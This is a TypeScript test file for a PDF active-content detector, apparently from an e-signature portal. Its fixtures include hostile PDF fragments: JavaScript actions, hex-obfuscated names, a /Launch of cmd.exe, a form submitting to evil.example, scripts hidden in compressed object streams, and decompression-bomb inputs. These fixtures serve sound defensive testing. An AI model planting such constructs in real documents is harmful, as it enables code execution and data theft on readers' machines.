import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildPdf } from '#testing/files.ts';
import { hasActiveContent } from './active-content.ts';

const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((part) => Buffer.from(part)),
    Buffer.from('\n%%EOF'),
  ]);

/** A stream of objects, packed; `dictionary` says how. */
const packed = (text: string, dictionary = '/Filter /FlateDecode', bytes = deflateSync(text)) =>
  Buffer.concat([
    Buffer.from(
      `7 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${bytes.length} >>\nstream\r\n`,
    ),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ]);

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';

describe('a PDF that acts by itself or carries files', () => {
  it.each<[string, Buffer]>([
    ['a script', pdf(`1 0 obj ${SCRIPT} endobj`)],
    ['a script in other letters', pdf('1 0 obj << /S /J#61vaScript /JS (x) >> endobj')],
    ['a script in other letters throughout', pdf('<< /S /#4a#61#76#61#53#63#72#69#70#74 >>')],
    ['a program to start', pdf('<< /S /Launch /F (cmd.exe) >>')],
    ['a file inside', pdf('<< /Type /EmbeddedFile /Length 3 >>')],
    ['a form that sends', pdf('<< /S /SubmitForm /F (https://evil.example) >>')],
    ['a script among packed objects', pdf(packed(`1 0 ${SCRIPT}`))],
    [
      'packed objects that nobody can read',
      pdf(packed('', '/Filter /FlateDecode', Buffer.from('encrypted'))),
    ],
    ['packed objects in another way', pdf(packed(SCRIPT, '/Filter /LZWDecode'))],
    ['objects packed twice', pdf(packed(SCRIPT, '/Filter [/FlateDecode /ASCIIHexDecode]'))],
    [
      'objects packed with a predictor',
      pdf(packed(SCRIPT, '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
    ],
    ['packed objects without an end', pdf(packed('a'.repeat(70 * 1024 * 1024)))],
    ['names in other letters without an end', pdf('/a#20'.repeat(200_000))],
    ['packed objects by the thousand', pdf(...Array.from({ length: 20_000 }, () => packed('')))],
  ])('is known by %s', (_, bytes) => {
    expect(hasActiveContent(bytes)).toBe(true);
  });

  it.each<[string, Buffer]>([
    ['empty pages', buildPdf(3)],
    ['a place to begin at', pdf('<< /Type /Catalog /OpenAction [3 0 R /Fit] >>')],
    ['a link', pdf('<< /S /URI /URI (https://example.org/a#20b) >>')],
    ['plain packed objects', pdf(packed('1 0 << /Type /Page >>'), packed('2 0 << /Type /Font >>'))],
    ['a name in other letters', pdf('<< /Type /Font /BaseFont /Times#20Roman >>')],
  ])('is not one with %s', (_, bytes) => {
    expect(hasActiveContent(bytes)).toBe(false);
  });

  it('is none of those that the portal makes and seals itself', async () => {
    const here = path.resolve(import.meta.dirname, '../..');
    const folders = ['providers/esign/builtin/samples', 'testing/released/1db245f/backup/files'];
    for (const folder of folders) {
      const entries = await readdir(path.join(here, folder), { recursive: true });
      const names = entries.filter((name) => name.endsWith('.pdf'));
      expect(names.length).toBeGreaterThan(2);
      for (const name of names) {
        const bytes = await readFile(path.join(here, folder, name));
        expect([name, hasActiveContent(bytes)]).toEqual([name, false]);
      }
    }
  });
});
